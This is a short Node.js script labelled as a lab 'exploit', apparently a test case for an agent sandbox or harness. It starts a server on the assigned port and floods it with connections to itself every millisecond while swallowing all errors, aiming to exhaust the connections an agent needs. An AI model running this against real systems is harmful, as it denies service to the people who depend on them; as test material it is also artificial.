// exploit: opens connections to itself without end while the agent needs its own
// kind: lab
// exchange: none timed-out not-listening connection-closed
// outcome: finished exited
const net = require('node:net')
const server = net.createServer((socket) => socket.on('error', () => {}).once('data', () => socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')))
server.on('error', () => {})
process.on('uncaughtException', () => {})
server.listen(process.env.PORT, () => setInterval(() => { for (let i = 0; i < 100; i += 1) net.connect(process.env.PORT).on('error', () => {}) }, 1))
